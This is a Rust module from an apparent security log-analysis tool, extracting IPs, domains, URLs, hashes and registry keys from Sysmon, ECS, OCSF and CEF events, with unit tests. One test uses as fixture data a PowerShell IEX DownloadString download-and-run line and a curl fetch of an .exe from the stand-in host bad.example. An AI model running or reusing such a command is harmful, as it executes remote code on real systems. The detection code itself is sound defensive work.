//! Which observables an event names, whatever its class.
//!
//! A table for each class says what its fields hold; this module takes the values out of them: hashes out of
//! Sysmon's list, addresses with the port beside them, URLs out of command lines. What is handed out is text as it
//! stands in the event: `observable::normalise` decides whether it is one.

mod plan;

use std::net::IpAddr;

use json::Value;
use observable::Kind;

use crate::class::GENERIC;
use crate::event::{Event, raw_texts};
use crate::slot::Raw;

/// A table of paths and what is there.
pub(crate) type Sights = &'static [(&'static str, What)];

/// What a field holds. A `port` is the path of the field that holds it, or empty.
#[derive(Debug, Clone, Copy)]
pub(crate) enum What {
    /// One value of this kind.
    Is(Kind),
    /// An address or a name, and the port that belongs to it.
    Host(&'static str),
    /// A path or a name of a file.
    File,
    /// `SHA1=…,MD5=…`, as Sysmon writes them.
    Hashes,
    /// A hash of a file; its length says which.
    Digest,
    /// A registry key.
    Registry,
    /// A registry key with the name of a value behind it.
    Setting,
    /// The name of an object, of the type that another field says (Windows 4656, 4663).
    Object(&'static str),
    /// What a name resolved to, as Sysmon 22 writes it: `type:  5 alias.example;::ffff:192.0.2.1;`.
    Answers,
    /// Text of people or programs with URLs in it.
    Links,
    /// Free text: addresses, names, hashes and URLs, wherever they stand.
    Words,
    /// One or more mailboxes, with names or without.
    Mail,
    /// The target of an HTTP request, at the host that another field says.
    Request(&'static str),
}

/// A value of an event that may be an observable.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Sighted<'s> {
    /// What it should be.
    pub kind: Kind,
    /// The value as the event has it.
    pub text: &'s str,
    /// The field, by a name that [`Event::field`] and [`Event::span`] know.
    pub field: &'s str,
    /// The port beside an address or name.
    pub port: Option<u16>,
    /// Whether this is a URL that was put together of the target of a request and a host. The host is handed out by
    /// itself, and nothing is said of the port.
    pub made: bool,
}

/// The most URLs taken out of one text.
const MAX_LINKS: usize = 32;
/// The most words of one text that are looked at.
const MAX_WORDS: usize = 512;
/// The most hosts, answers, hashes or mailboxes taken out of one text.
const MAX_PARTS: usize = 64;

/// Letters and digits of any script, the marks that stand on them included: some write `ü` in two.
fn is_letter(c: char) -> bool {
    c.is_alphanumeric() || ('\u{300}'..='\u{36f}').contains(&c)
}

/// Names that records of any kind use: Elastic's ECS, OCSF, CEF's words and the plain ones.
pub(crate) const COMMON: Sights = &[
    ("src_ip", What::Host("src_port")),
    ("dst_ip", What::Host("dst_port")),
    ("dest_ip", What::Host("dest_port")),
    ("source.ip", What::Host("source.port")),
    ("destination.ip", What::Host("destination.port")),
    ("client.ip", What::Host("client.port")),
    ("server.ip", What::Host("server.port")),
    ("src_endpoint.ip", What::Host("src_endpoint.port")),
    ("dst_endpoint.ip", What::Host("dst_endpoint.port")),
    ("destination.domain", What::Host("destination.port")),
    ("dst_endpoint.hostname", What::Host("dst_endpoint.port")),
    ("dns.question.name", What::Host("")),
    ("query.hostname", What::Host("")),
    ("ip", What::Host("port")),
    ("src", What::Host("spt")),
    ("dst", What::Host("dpt")),
    ("domain", What::Host("")),
    ("hostname", What::Host("")),
    ("url", What::Links),
    ("url.full", What::Links),
    ("url.original", What::Links),
    ("http_request.url.url_string", What::Links),
    ("request", What::Links),
    ("user_agent", What::Is(Kind::UserAgent)),
    ("user_agent.original", What::Is(Kind::UserAgent)),
    ("http_request.user_agent", What::Is(Kind::UserAgent)),
    ("md5", What::Digest),
    ("sha1", What::Digest),
    ("sha256", What::Digest),
    ("hash", What::Digest),
    ("file.hash.md5", What::Digest),
    ("file.hash.sha1", What::Digest),
    ("file.hash.sha256", What::Digest),
    ("process.hash.sha256", What::Digest),
    ("file.hashes.value", What::Digest),
    ("file.path", What::File),
    ("file.name", What::File),
    ("process.executable", What::File),
    ("process.file.path", What::File),
    ("process.command_line", What::Links),
    ("process.cmd_line", What::Links),
    ("email.from.address", What::Mail),
    ("email.to.address", What::Mail),
    ("message", What::Words),
];

impl Event<'_> {
    /// Hands out every value that may be an observable. The same value can come more than once.
    pub fn observables(&self, each: &mut dyn FnMut(Sighted<'_>)) {
        match plan::of(self.shape()) {
            Some(plan) => plan.walk(self, &mut |(field, what), text| self.sight(field, what, text, each)),
            None => self.observables_by_path(each),
        }
        if std::ptr::eq(self.shape(), &raw const GENERIC) {
            self.all_texts(each);
        }
    }

    /// What any text of the record names: of a record of any kind nobody knows which field holds what.
    fn all_texts(&self, each: &mut dyn FnMut(Sighted<'_>)) {
        let mut path = String::new();
        for (name, raw) in self.slots().iter() {
            path.clear();
            path.push_str(name);
            match raw {
                Raw::Json(value) => self.json_texts(*value, &mut path, each),
                raw => raw_texts(raw, &mut |text| self.any_text(name, text, each)),
            }
        }
    }

    fn any_text(&self, field: &str, text: &str, each: &mut dyn FnMut(Sighted<'_>)) {
        // What the table reads whole was handed out by it.
        if !COMMON.iter().any(|(own, what)| *own == field && !matches!(what, What::Links)) {
            self.sight(field, What::Words, text, each);
        }
    }

    fn json_texts(&self, value: Value<'_>, path: &mut String, each: &mut dyn FnMut(Sighted<'_>)) {
        match value.kind() {
            json::Kind::String => {
                let text = value.as_str().unwrap_or_default();
                self.any_text(path, &text, each);
            }
            json::Kind::Array => value.items().for_each(|item| self.json_texts(item, path, each)),
            json::Kind::Object => {
                for (name, member) in value.entries() {
                    let length = path.len();
                    path.push('.');
                    path.push_str(&name.as_str().unwrap_or_default());
                    self.json_texts(member, path, each);
                    path.truncate(length);
                }
            }
            json::Kind::Null | json::Kind::Bool | json::Kind::Number => {}
        }
    }

    /// As [`Event::observables`], by a look-up for each field.
    fn observables_by_path(&self, each: &mut dyn FnMut(Sighted<'_>)) {
        for &(field, what) in self.shape().sights.iter().flat_map(|table| table.iter()) {
            if let Some(found) = self.path(field) {
                found.texts(&mut |text| self.sight(field, what, text, each));
            }
        }
    }

    fn sight(&self, field: &str, what: What, text: &str, each: &mut dyn FnMut(Sighted<'_>)) {
        let text = text.trim();
        if matches!(text, "" | "-" | "(empty)") {
            return;
        }
        let mut say = |kind: Kind, text: &str, port: Option<u16>| {
            each(Sighted { kind, text, field, port, made: false });
        };
        match what {
            What::Is(kind) => say(kind, text, None),
            What::Host(port) => {
                if let Some((kind, host, own)) = host(text) {
                    say(kind, host, own.or_else(|| self.port(port)));
                }
            }
            What::File => say(Kind::FileName, text, None),
            What::Hashes => hashes(text, &mut |kind, text| say(kind, text, None)),
            What::Digest => {
                if let Some(kind) = digest(text) {
                    say(kind, text, None);
                }
            }
            What::Registry => registry(text, &mut |text| say(Kind::RegistryKey, text, None)),
            What::Setting => registry(text, &mut |text| {
                say(Kind::RegistryKey, text, None);
                if let Some((key, _)) = text.rsplit_once('\\') {
                    say(Kind::RegistryKey, key, None);
                }
            }),
            What::Object(of) => match self.path(of).and_then(|found| found.text()).as_deref() {
                Some("Key") => registry(text, &mut |text| say(Kind::RegistryKey, text, None)),
                Some("Mutant") => say(Kind::Mutex, text.rsplit('\\').next().unwrap_or(text), None),
                Some("File") => say(Kind::FileName, text, None),
                _ => {}
            },
            What::Answers => {
                for answer in text.split(';').take(MAX_PARTS) {
                    let value = answer.trim().rsplit(' ').next().unwrap_or_default();
                    if let Some((kind, host, _)) = host(value) {
                        say(kind, host, None);
                    }
                }
            }
            What::Links => links(text, &mut |url| say(Kind::Url, url, None)),
            What::Words => {
                links(text, &mut |url| say(Kind::Url, url, None));
                words(text, &mut say);
            }
            What::Mail => {
                for mailbox in text.split([',', ';']).take(MAX_PARTS) {
                    let inner = mailbox.rsplit_once('<').map_or(mailbox, |(_, inner)| inner);
                    let address = inner.trim_end_matches('>').trim();
                    if address.contains('@') {
                        say(Kind::Email, address, None);
                    }
                }
            }
            What::Request(at) => self.request(text, at, &mut |kind, text, made| {
                each(Sighted { kind, text, field, port: None, made });
            }),
        }
    }

    /// The target of a request and, with its host, the URL. `CONNECT host:443` names a host alone.
    fn request(&self, target: &str, host_at: &str, say: &mut dyn FnMut(Kind, &str, bool)) {
        if target.starts_with('/') {
            say(Kind::HttpTarget, target, false);
            if let Some(host) = self.path(host_at).and_then(|found| found.text()) {
                let url = ["http://", &host, target].concat();
                say(Kind::Url, &url, true);
            }
        } else if let Some(scheme) = target.find("://").filter(|at| *at <= 8) {
            say(Kind::Url, target, false);
            let rest = target.get(scheme + 3..).unwrap_or_default();
            if let Some(path) = rest.find('/').and_then(|at| rest.get(at..)) {
                say(Kind::HttpTarget, path, false);
            }
        } else if let Some((kind, host, _)) = host(target) {
            say(kind, host, false);
        }
    }

    fn port(&self, path: &str) -> Option<u16> {
        if path.is_empty() {
            return None;
        }
        self.path(path)?.text()?.parse().ok()
    }
}

/// What kind of host a text names, the host without port, brackets or interface, and the port.
fn host(text: &str) -> Option<(Kind, &str, Option<u16>)> {
    match plain_host(text.as_bytes()) {
        Some(kind) => kind.map(|kind| (kind, text, None)),
        None => any_host(text),
    }
}

/// What kind of host a text is that is written in letters, digits and dots alone, as most are; `Some(None)` if it is none.
fn plain_host(text: &[u8]) -> Option<Option<Kind>> {
    let (mut dots, mut lettered) = (0, false);
    for byte in text {
        match byte {
            b'0'..=b'9' => {}
            b'.' => dots += 1,
            b'a'..=b'z' | b'A'..=b'Z' | b'-' | b'_' => lettered = true,
            _ => return None,
        }
    }
    Some(match dots {
        0 => None,
        3 if !lettered => Some(Kind::Ipv4),
        // A single label is a name of this network, and nobody shares those.
        _ => {
            let end = text.iter().rposition(|byte| *byte != b'.').unwrap_or(0);
            text.get(..end)?.contains(&b'.').then_some(Kind::Domain)
        }
    })
}

/// As [`host`], for whatever is written.
fn any_host(text: &str) -> Option<(Kind, &str, Option<u16>)> {
    let (host, port) = match text.rsplit_once(':') {
        Some((host, digits)) if !host.contains(':') || host.ends_with(']') => (host, digits.parse().ok()),
        _ => (text, None),
    };
    let host = host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host);
    let host = host.split_once('%').map_or(host, |(host, _)| host);
    let begins = host.bytes().next()?;
    if (begins.is_ascii_hexdigit() || begins == b':')
        && let Ok(address) = host.parse::<IpAddr>()
    {
        let kind = if address.is_ipv4() { Kind::Ipv4 } else { Kind::Ipv6 };
        return Some((kind, host, port));
    }
    // A single label is a name of this network, and nobody shares those.
    let named = host.trim_end_matches('.').contains('.')
        && host.chars().all(|c| is_letter(c) || matches!(c, '.' | '-' | '_'));
    named.then_some((Kind::Domain, host, port))
}

const ALGORITHMS: [(&str, Kind); 8] = [
    ("MD5", Kind::Md5),
    ("SHA1", Kind::Sha1),
    ("SHA256", Kind::Sha256),
    ("IMPHASH", Kind::Imphash),
    ("SHA-1", Kind::Sha1),
    ("SHA-256", Kind::Sha256),
    ("SHA384", Kind::Sha384),
    ("SHA512", Kind::Sha512),
];

fn hashes(text: &str, say: &mut dyn FnMut(Kind, &str)) {
    for part in text.split([',', '|']).take(MAX_PARTS) {
        match part.split_once(['=', ':']) {
            Some((name, value)) => {
                let name = name.trim();
                let known = ALGORITHMS.iter().find(|(own, _)| own.eq_ignore_ascii_case(name));
                // Sysmon writes zeros for what it could not compute.
                if let Some((_, kind)) = known
                    && value.bytes().any(|byte| byte != b'0')
                {
                    say(*kind, value.trim());
                }
            }
            None => {
                if let Some(kind) = digest(part.trim()) {
                    say(kind, part.trim());
                }
            }
        }
    }
}

/// Which hash of a file this is, by its length.
fn digest(text: &str) -> Option<Kind> {
    let kind = match text.len() {
        32 => Kind::Md5,
        40 => Kind::Sha1,
        64 => Kind::Sha256,
        96 => Kind::Sha384,
        128 => Kind::Sha512,
        _ => return None,
    };
    text.bytes().all(|byte| byte.is_ascii_hexdigit()).then_some(kind)
}

/// Keys as the kernel spells them, and as tools do.
const HIVES: [(&str, &str); 2] = [(r"\REGISTRY\MACHINE\", r"HKLM\"), (r"\REGISTRY\USER\", r"HKU\")];

fn registry(text: &str, say: &mut dyn FnMut(&str)) {
    let hive = HIVES.iter().find_map(|(kernel, short)| {
        let head = text.get(..kernel.len())?;
        head.eq_ignore_ascii_case(kernel).then_some((short, text.get(kernel.len()..)?))
    });
    match hive {
        Some((short, rest)) => say(&format!("{short}{rest}")),
        None => say(text),
    }
}

/// Everything around a `://` that can be part of a URL.
fn links(text: &str, say: &mut dyn FnMut(&str)) {
    let mut from = 0;
    for _ in 0..MAX_LINKS {
        let rest = text.get(from..).unwrap_or_default();
        let Some(found) = scheme_end(rest.as_bytes()) else { return };
        let before = rest.as_bytes().get(..found).unwrap_or_default();
        let letter = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.');
        let scheme = before.iter().rev().take(16).take_while(letter).count();
        let behind = rest.get(found + 3..).unwrap_or_default();
        let end = found + 3 + url_end(behind);
        let url = rest.get(found - scheme..end).unwrap_or_default();
        let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']']);
        if scheme > 0 && url.len() > scheme + 3 {
            say(url);
        }
        from += end;
    }
}

/// Where `://` is.
fn scheme_end(text: &[u8]) -> Option<usize> {
    memchr::memchr_iter(b':', text).find(|at| text.get(at + 1..at + 3) == Some(b"//"))
}

/// How many bytes of a text belong to the URL that it begins with.
fn url_end(text: &str) -> usize {
    let ends = |byte: u8| {
        byte <= b' ' || matches!(byte, b'"' | b'\'' | b'`' | b'<' | b'>' | b'|' | b'^' | b'{' | b'}' | 0x7f)
    };
    let end = text.bytes().position(ends).unwrap_or(text.len());
    let begin = text.get(..end).unwrap_or_default();
    if begin.is_ascii() {
        end
    } else {
        begin.find(|c: char| c.is_whitespace() || c.is_control()).unwrap_or(end)
    }
}

/// Addresses, names, mailboxes and hashes among the words of a text. URLs are [`links`]' business.
fn words(text: &str, say: &mut dyn FnMut(Kind, &str, Option<u16>)) {
    let breaks = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '"' | '\'' | '<' | '>' | '(' | ')' | '{' | '}' | ',' | ';' | '=' | '|' | '`')
    };
    for word in text.split(breaks).filter(|word| word.len() > 3).take(MAX_WORDS) {
        let word = word.trim_end_matches(['.', ':', '!', '?']).trim_start_matches('@');
        if word.len() > 320 || word.contains("://") || !word.contains(['.', ':']) {
            if let Some(kind) = digest(word) {
                say(kind, word, None);
            }
        } else if word.contains('@') {
            say(Kind::Email, word, None);
        } else if !word.contains(['/', '\\']) {
            match host(word).or_else(|| host(word.trim_matches(['[', ']']))) {
                // `sshd.123` and version numbers are no names.
                Some((Kind::Domain, name, _)) if !ends_like_a_name(name) => {}
                Some((kind, host, port)) => say(kind, host, port),
                None => {}
            }
        }
    }
}

fn ends_like_a_name(host: &str) -> bool {
    let last = host.rsplit('.').next().unwrap_or_default();
    last.len() >= 2
        && last.chars().all(|c| is_letter(c) || c == '-')
        && !last.starts_with(|c: char| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(act: impl Fn(&mut dyn FnMut(Kind, &str, Option<u16>))) -> Vec<String> {
        let mut out = Vec::new();
        act(&mut |kind, text, port| {
            out.push(port.map_or_else(|| format!("{kind} {text}"), |port| format!("{kind} {text} :{port}")));
        });
        out
    }

    #[test]
    fn hosts() {
        let check = |text: &str| host(text).map(|(kind, host, port)| (kind.as_str(), host.to_owned(), port));
        let some = |kind: &'static str, host: &str, port| Some((kind, host.to_owned(), port));
        assert_eq!(check("192.0.2.1:8080"), some("ipv4", "192.0.2.1", Some(8080)));
        assert_eq!(check("2001:db8::1"), some("ipv6", "2001:db8::1", None));
        assert_eq!(check("[2001:db8::1]:443"), some("ipv6", "2001:db8::1", Some(443)));
        assert_eq!(check("fe80::1%eth0"), some("ipv6", "fe80::1", None));
        assert_eq!(check("bad.example"), some("domain", "bad.example", None));
        assert_eq!(check("WORKSTATION5"), None);
        assert_eq!(check("a b.c"), None);
        assert_eq!(check(""), None);
    }

    #[test]
    fn sysmons_hashes() {
        let text = "SHA1=5E4F2C531C549BB72A658ED9DD16D491EDDBB286,MD5=FAB4B30C1C4F0A9202A7B42DCF1729DC,\
                    IMPHASH=00000000000000000000000000000000,X=1";
        let found = all(|say| hashes(text, &mut |kind, text| say(kind, text, None)));
        assert_eq!(
            found,
            ["sha1 5E4F2C531C549BB72A658ED9DD16D491EDDBB286", "md5 FAB4B30C1C4F0A9202A7B42DCF1729DC"]
        );
    }

    #[test]
    fn links_in_command_lines() {
        let text = "powershell IEX(New-Object Net.WebClient).DownloadString('http://bad.example/a?b=c');\
                    curl https://bad.example:8443/x.exe, -o x ://nothing";
        let found = all(|say| links(text, &mut |url| say(Kind::Url, url, None)));
        assert_eq!(found, ["url http://bad.example/a?b=c", "url https://bad.example:8443/x.exe"]);
    }

    #[test]
    fn words_of_a_message() {
        let text = "Failed password for root from 192.0.2.7 port 22 ssh2; host [198.51.100.1:53] mail a@bad.example, \
                    see bad.example. d41d8cd98f00b204e9800998ecf8427e v1.2.3 1.2 http://x.example/";
        assert_eq!(
            all(|say| words(text, say)),
            [
                "ipv4 192.0.2.7",
                "ipv4 198.51.100.1 :53",
                "email a@bad.example",
                "domain bad.example",
                "md5 d41d8cd98f00b204e9800998ecf8427e"
            ]
        );
    }

    #[test]
    fn the_kernels_names_of_hives() {
        let found = all(|say| {
            registry(r"\REGISTRY\MACHINE\SOFTWARE\x", &mut |key| say(Kind::RegistryKey, key, None))
        });
        assert_eq!(found, [r"registry-key HKLM\SOFTWARE\x"]);
    }

    /// The record's values, one way and the other.
    fn both_ways(record: &str, class: crate::ClassId) -> [Vec<String>; 2] {
        let settings = crate::Settings { class: Some(class), ..crate::Settings::default() };
        let mut reader = crate::Reader::new(crate::Format::JsonLines, settings);
        let event = reader.read(record.as_bytes(), model::Timestamp::EPOCH).unwrap().unwrap();
        let (mut walked, mut asked) = (Vec::new(), Vec::new());
        let Some(plan) = plan::of(event.shape()) else { return [walked, asked] };
        plan.walk(&event, &mut |(field, what), text| {
            event.sight(field, what, text, &mut |sighted| walked.push(format!("{sighted:?}")));
        });
        event.observables_by_path(&mut |sighted| asked.push(format!("{sighted:?}")));
        walked.sort();
        asked.sort();
        [walked, asked]
    }

    #[test]
    fn one_pass_finds_what_looking_for_each_field_does() {
        const VALUES: [&str; 5] = [
            "192.0.2.7",
            "www.example.com",
            "http://example.com/a",
            "d41d8cd98f00b204e9800998ecf8427e",
            "/a/b.php",
        ];
        let mut found = 0;
        for class in crate::class::classes() {
            for (field, _) in class.sights.iter().flat_map(|table| table.iter()) {
                for value in VALUES.map(|value| format!("\"{value}\"")) {
                    let nested = field
                        .split('.')
                        .rev()
                        .fold(value.clone(), |inner, name| format!("{{\"{name}\":{inner}}}"));
                    let listed = field
                        .split('.')
                        .rev()
                        .fold(value.clone(), |inner, name| format!("{{\"{name}\":[{inner},7,{inner}]}}"));
                    let flat =
                        format!("{{\"{field}\":{value},\"dest_port\":443,\"{field}\":\"second.example\"}}");
                    for record in [nested, listed, flat] {
                        let [walked, asked] = both_ways(&record, class.id);
                        assert_eq!(walked, asked, "{} {record}", class.name);
                        found += walked.len();
                    }
                }
            }
        }
        assert!(found > 1000, "{found}");
    }
}
